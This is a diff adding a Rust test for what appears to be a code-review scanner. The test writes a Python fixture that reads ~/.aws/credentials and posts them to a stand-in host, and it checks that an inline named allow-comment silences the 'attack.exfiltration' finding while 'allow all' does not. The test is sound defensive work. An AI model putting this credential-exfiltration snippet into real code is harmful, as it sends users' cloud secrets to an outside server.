@@ -201,3 +201,34 @@ fn chains_see_their_parts_even_when_the_parts_are_not_reported() {
         run.stdout
     );
 }
+
+#[test]
+fn a_chain_is_accepted_inline_by_name_but_not_by_allow_all() {
+    let repo = Repo::new();
+    repo.write("README.md", "# x\n");
+    repo.commit("base");
+    let code = |marker: &str| {
+        format!(
+            "import os\nimport requests\n\ncreds = open(os.path.expanduser(\"~/.aws/credentials\")).read()\n{marker}\nrequests.post(\"https://x.example.net/u\", data=creds)\n"
+        )
+    };
+    repo.write("sync.py", code("# review-gate: allow all -- fine"));
+    repo.git(&["add", "-A"]);
+    let run = repo.run(&["staged", "--format", "json"]);
+    assert!(
+        run.findings().iter().any(|f| f.2 == "attack.exfiltration"),
+        "{}",
+        run.stdout
+    );
+    repo.write(
+        "sync.py",
+        code("# review-gate: allow attack.exfiltration -- uploads our own backup, reviewed in #12"),
+    );
+    repo.git(&["add", "-A"]);
+    let run = repo.run(&["staged", "--format", "json"]);
+    assert!(
+        !run.findings().iter().any(|f| f.2.starts_with("attack.")),
+        "{}",
+        run.stdout
+    );
+}
